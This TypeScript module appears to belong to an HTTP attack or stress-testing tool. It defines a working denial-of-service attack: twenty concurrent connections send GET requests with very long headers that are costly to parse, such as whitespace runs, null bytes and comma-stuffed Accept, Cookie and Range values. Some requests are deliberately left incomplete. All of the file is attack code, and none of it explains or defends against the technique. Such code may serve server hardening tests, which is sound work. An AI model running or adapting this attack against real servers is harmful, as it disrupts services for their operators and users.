import { once } from 'node:events';
import { type Attack, untilEnded } from '../attack.ts';
import { headersOf, openSocket } from '../target.ts';

const ATTACKERS = 20;
/** The pieces of a head add up to the maximum length. */
const LENGTH = 7_600;
const filled = (piece: string) => piece.repeat(LENGTH / piece.length);

/** Heads that are expensive to parse: long runs of one character, and lists of empty items. Some are cut off. */
const HEADS = [
  `X:${filled(' ')}\0`,
  `X:${filled('\t')}\0`,
  `X: a${filled(' ')}b`,
  ...[
    'Accept-Encoding',
    'If-None-Match',
    'Accept',
    'Accept-Language',
    'Range',
    'Cookie',
    'Forwarded',
    'If-Range',
  ].flatMap((name) => [
    `${name}: ${filled(',')}\r\n`,
    `${name}: ${filled('a;q=0.1,')}\r\n`,
    `${name}: ${filled('; =')}\r\n`,
  ]),
];

export const heads: Attack = async (target, count, signal, paths) => {
  let n = 0;
  await untilEnded(ATTACKERS, signal, async (attacker) => {
    const head = HEADS[n++ % HEADS.length]!;
    const isWhole = head.endsWith('\r\n');
    const socket = openSocket(target, attacker, count);
    const stop = () => socket.destroy();
    signal.addEventListener('abort', stop, { once: true });
    const closed = once(socket, 'close');
    socket.on('data', count.reader(`GET with ${head.slice(0, 40)}`));
    count.sent++;
    socket.write(
      `GET ${paths.stored} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n${headersOf(target, attacker)}${head}${isWhole ? '\r\n' : ''}`,
      // The connection of an incomplete request is closed after 50 ms.
      () => {
        if (!isWhole) setTimeout(stop, 50);
      },
    );
    await closed;
    signal.removeEventListener('abort', stop);
  });
};
